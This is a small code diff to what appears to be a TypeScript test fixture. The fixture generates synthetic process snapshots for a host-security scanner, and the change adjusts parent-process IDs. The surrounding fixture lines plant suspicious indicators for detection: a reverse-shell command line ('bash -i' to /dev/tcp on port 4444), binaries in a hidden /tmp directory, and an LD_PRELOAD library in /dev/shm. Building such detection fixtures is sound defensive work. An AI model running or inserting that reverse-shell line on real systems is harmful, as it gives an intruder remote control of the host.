@@ -23,7 +23,8 @@ function syntheticHost(n: number): ProcessSnapshot[] {
     const kernel = name.startsWith('kworker');
     const exe = kernel ? null : i % 997 === 0 ? `/tmp/.x/${name}` : `/usr/bin/${name}`;
     rows.push(fixtureProcess({
-      pid: i + 2, ppid: i < 10 ? 1 : 2 + (i % 500), name, executable_path: exe,
+      // Most processes are children of systemd (pid 9); every 40th runs under a shell (pid 3).
+      pid: i + 2, ppid: i < 12 ? 1 : i % 40 === 0 ? 3 : 9, name, executable_path: exe,
       command_line: kernel ? '' : i % 1499 === 0 ? 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' : `${exe} --worker ${i}`,
       is_kernel_thread: kernel ? 1 : 0, file_exists: i % 1999 === 0 ? 0 : 1, user_id: i % 3 === 0 ? 0 : 1000,
       environment: i % 2503 === 0 ? { LD_PRELOAD: '/dev/shm/libx.so' } : { PATH: '/usr/bin:/bin' },
